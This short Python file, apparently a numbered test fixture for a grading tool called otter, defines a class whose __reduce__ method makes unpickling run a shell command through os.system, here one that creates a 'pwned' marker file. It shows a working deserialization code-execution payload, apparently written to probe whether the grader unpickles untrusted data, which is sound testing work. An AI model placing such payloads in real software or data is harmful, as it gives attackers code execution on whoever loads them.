r"""Returns an object that runs a command when it is unpickled.

Catalogue: 43. Stock: n/a; otter unpickles.
Says: "\$other": "Bomb"
"""
import os


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {COURSE}/pwned",)


def f(x):
    return Bomb()
